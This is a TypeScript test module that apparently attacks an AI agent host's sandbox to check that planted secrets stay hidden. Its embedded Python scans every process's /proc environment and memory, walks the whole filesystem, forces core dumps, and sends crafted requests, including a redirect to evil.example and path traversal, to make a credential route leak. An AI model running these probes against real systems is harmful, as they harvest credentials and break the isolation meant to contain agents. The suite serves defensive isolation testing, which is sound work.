/** Secrets: values the owner keeps, looked for wherever a sandbox, a neighbour or a reader of what the host wrote could find one. */
import { readFileSync, statSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";
import type { AttackRig } from "../harness/attack-rig.ts";
import { GROUPS, PLANTED_START } from "../harness/attacked-household.ts";
import type { Attack, Verdict } from "./attack.ts";
import { python } from "./python.ts";
import { mustHoldNone } from "./secret-search.ts";

const family = "secrets";

/** Two parts, so that a program that looks for it does not find itself. */
const MARK = `"${PLANTED_START.slice(0, 5)}" + "${PLANTED_START.slice(5)}"`;
const OWN = `
MARK = (${MARK}).encode()
OURS = [os.environ.get(name, "\\0").encode() for name in ("ATTACK_LENT", "ATTACK_BRIEF")]
def found(data, where):
    """A planted value that this group was not lent."""
    for own in OURS: data = data.replace(own, b"")
    at = data.find(MARK)
    if at >= 0: passed(f"{where}: " + data[at:at + 20].decode("latin1") + "...")
`;

function command(id: string, tried: string, body: string, more: Partial<Attack> = {}): Attack {
  return { id: `secrets.${id}`, family, tried, way: { kind: "command", command: () => python(`${OWN}${body}`) }, ...more };
}

export const SECRETS: readonly Attack[] = [
  {
    id: "secrets.control-lease",
    family,
    isControl: true,
    tried: "has the secret its group is lent, and no other, in its commands",
    way: {
      kind: "command",
      command: () =>
        python(`
held = os.environ.get("ATTACK_LENT", "")
stopped("ATTACK_LENT is there") if held.startswith(${MARK}) and "ATTACK_OTHERS" not in os.environ else passed(f"{sorted(os.environ)}")`),
    },
  },
  command("environment", "reads its environment", "found(repr(dict(os.environ)).encode(), 'environment')\nend('no value but those lent')"),
  command(
    "proc",
    "reads environment, arguments, mounts and open files of every process it can see",
    `
read = 0
for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    for name in ("environ", "cmdline", "mountinfo", "maps", "stat", "status", "cgroup", "comm"):
        try: data = open(f"/proc/{pid}/{name}", "rb").read()
        except OSError: continue
        if name == "cmdline" and b"ATTACK" in data: continue
        found(data, f"/proc/{pid}/{name}"); read += 1
end(f"{read} files of /proc read")`,
  ),
  command(
    "runner-memory",
    "reads the runner's memory for secrets this turn was not lent",
    `
regions = 0
for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (os.getpid(), os.getppid())]:
    try:
        if b"runner" not in open(f"/proc/{pid}/cmdline", "rb").read(): continue
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
        maps = open(f"/proc/{pid}/maps").read().split("\\n")
    except OSError as error:
        SEEN.append(f"{pid}: {named(error.errno)}"); continue
    for line in maps:
        if " rw" not in line or "[v" in line: continue
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if high - low > 64 << 20: continue
        try:
            memory.seek(low); found(memory.read(high - low), "the runner's memory"); regions += 1
        except (OSError, OverflowError): pass
end(f"{regions} regions read; ")`,
  ),
  command(
    "files",
    "searches every file it can read",
    `
count = 0
for top, folders, files in os.walk("/"):
    if top in ("/proc", "/sys", "/dev"): folders[:] = []; continue
    for name in files:
        path = os.path.join(top, name)
        try:
            if not stat.S_ISREG(os.lstat(path).st_mode) or os.path.getsize(path) > 4 << 20: continue
            found(open(path, "rb").read(), path); count += 1
        except OSError: pass
end(f"{count} files searched")`,
  ),
  command(
    "core-dump",
    "crashes a program so that it leaves its memory behind",
    `
import resource
os.chdir("/tmp")
pid = os.fork()
if pid == 0:
    try: resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError): pass
    os.kill(os.getpid(), 11)
_, status = os.waitpid(pid, 0)
left = glob.glob("/tmp/core*") + glob.glob("/workspace/group/core*")
if left or os.WCOREDUMP(status): passed(f"{left} {os.WCOREDUMP(status)}")
stopped("RLIMIT_CORE " + str(resource.getrlimit(resource.RLIMIT_CORE)))`,
  ),
  command(
    "door-errors",
    "provokes every door's refusals and reads their words",
    `
for raw in ("GET http://attack-route.door/forbidden HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n",
            "DELETE http://attack-route.door/echo HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n",
            "GET http://nothing.door/ HTTP/1.1\\r\\nHost: nothing.door\\r\\nConnection: close\\r\\n\\r\\n",
            "GET http://attack-route.door/echo/%2e%2e/x HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n",
            "CONNECT attack-route.door:443 HTTP/1.1\\r\\n\\r\\n", "nonsense\\r\\n\\r\\n"):
    answer = ask(raw)
    found(answer.encode("latin1"), raw[:40]); SEEN.append(first(answer)[:40] or "closed")
end()`,
  ),
  command(
    "route-echo",
    "has the service behind an injection route show the credential it got",
    `
answer = ask("GET http://attack-route.door/echo HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n")
found(answer.encode("latin1"), "the route's answer")
end("the answer came without it: " + first(answer)[:120] + " ")`,
    {
      judge: ({ output }, { places, planted }) => {
        const arrived = places.allowed.received.includes(planted.route);
        const kept = /^STOPPED/m.test(output);
        return { stopped: arrived && kept, by: arrived ? output.slice(8, 200) : "the service never got its credential: nothing was shown" };
      },
      recorded: { in: "audit", kind: "route", subject: /attack-route/ },
    },
  ),
  command(
    "route-elsewhere",
    "has an injection route carry its credential elsewhere: by redirect, by path, by Host",
    `
for raw in ("GET http://attack-route.door/moved?to=http://evil.example/ HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n",
            "GET http://attack-route.door//evil.example/echo HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n",
            "GET http://attack-route.door/../admin HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n",
            "GET http://attack-route.door:8080/echo HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n",
            "GET http://x.attack-route.door/echo HTTP/1.1\\r\\nHost: attack-route.door\\r\\nConnection: close\\r\\n\\r\\n"):
    answer = ask(raw)
    found(answer.encode("latin1"), raw[:50]); SEEN.append(first(answer)[:30] or "closed")
end()`,
  ),
  command(
    "others-route",
    "uses another group's secret: its lease's variable, its route, its workspace",
    `
if "ATTACK_OTHERS" in os.environ: passed("the variable is there")
for path in ("/workspace/${GROUPS.victim}", "/workspace/group/../${GROUPS.victim}", "/groups/${GROUPS.victim}"): tries(path, lambda: os.listdir(path))
end()`,
  ),
  {
    id: "secrets.docker-inspect",
    family,
    tried: "reads what the container engine tells of a running sandbox, as a neighbour with the engine's socket",
    way: { kind: "host", look: inspectWhileRunning },
    recorded: { in: "run" },
  },
  {
    id: "secrets.image-layers",
    family,
    tried: "searches the image: every layer, its configuration and its history",
    way: { kind: "host", look: searchImage },
    recorded: { in: "run" },
  },
  {
    id: "secrets.what-the-host-keeps",
    family,
    tried: "afterwards: reads the database, the log of decisions and the transcripts the host wrote",
    way: {
      kind: "host",
      look: async (rig) => {
        const turn = await rig.turn("attacker", [{ deltas: ["done"] }]);
        return { ...mustHoldNone(rig, "what the host keeps", rig.kept()), turn };
      },
    },
    recorded: { in: "run" },
  },
  {
    id: "secrets.sealed-store",
    family,
    tried: "reads the sealed store's file without its key",
    way: {
      kind: "host",
      look: async (rig) => {
        const turn = await rig.turn("attacker", [{ deltas: ["done"] }]);
        const path = join(rig.home, "secrets.sealed");
        const mode = statSync(path).mode & 0o777;
        const verdict = mustHoldNone(rig, `the sealed store (mode ${mode.toString(8)})`, readFileSync(path, "latin1"));
        return { ...verdict, stopped: verdict.stopped && (mode & 0o077) === 0, turn };
      },
    },
    recorded: { in: "run" },
  },
];

/** A turn holds its sandbox open while it is looked at. */
async function inspectWhileRunning(rig: AttackRig): Promise<Verdict & { turn: Awaited<ReturnType<AttackRig["turn"]>> }> {
  const running = rig.turn("attacker", [{ calls: [{ name: "exec", input: { command: "sleep 2" } }] }, { deltas: ["done"] }]);
  let text = "";
  for (let tries = 0; tries < 40 && text === ""; tries++) {
    await new Promise((resolve) => setTimeout(resolve, 100));
    const rows = JSON.parse(
      (
        await engine(rig, `/containers/json?filters=${encodeURIComponent(JSON.stringify({ label: [`hermit.instance=${rig.instance}`] }))}`)
      ).toString(),
    ) as { Id: string }[];
    const [row] = rows;
    if (row !== undefined)
      text = `${(await engine(rig, `/containers/${row.Id}/json`)).toString()}${(await engine(rig, `/containers/${row.Id}/top`).catch(() => Buffer.alloc(0))).toString()}`;
  }
  const turn = await running;
  return text === "" ? { stopped: false, by: "no sandbox was seen", turn } : { ...mustHoldNone(rig, "what the engine tells", text), turn };
}

async function searchImage(rig: AttackRig): Promise<Verdict & { turn: Awaited<ReturnType<AttackRig["turn"]>> }> {
  const turn = await rig.turn("attacker", [{ deltas: ["done"] }]);
  const image = encodeURIComponent(rig.image);
  const words = (await engine(rig, `/images/${image}/json`)).toString() + (await engine(rig, `/images/${image}/history`)).toString();
  const told = mustHoldNone(rig, "its configuration and history", words);
  if (!told.stopped) return { ...told, turn };
  const longest = Math.max(...rig.values.map((value) => value.length));
  let rest = Buffer.alloc(0);
  let bytes = 0;
  let hit = -1;
  await engine(rig, `/images/${image}/get`, (chunk) => {
    bytes += chunk.length;
    const whole = Buffer.concat([rest, chunk]);
    if (hit < 0) hit = rig.values.findIndex((value) => whole.includes(value));
    rest = whole.subarray(-longest);
  });
  const by = hit < 0 ? `none in ${Math.round(bytes / 1e6)} MB of layers, configuration and history` : `value ${hit + 1} is in a layer`;
  return { stopped: hit < 0 && bytes > 1_000_000, by, turn };
}

function engine(rig: AttackRig, path: string, onChunk?: (chunk: Buffer) => void): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const call = request({ socketPath: rig.engineSocket, path, headers: { host: "engine" }, agent: false }, (answer) => {
      const chunks: Buffer[] = [];
      answer.on("data", (chunk: Buffer) => (onChunk === undefined ? void chunks.push(chunk) : onChunk(chunk)));
      answer.once("error", reject);
      answer.once("end", () =>
        answer.statusCode === 200 ? resolve(Buffer.concat(chunks)) : reject(new Error(`${answer.statusCode} to ${path}`)),
      );
    });
    call.once("error", reject).end();
  });
}
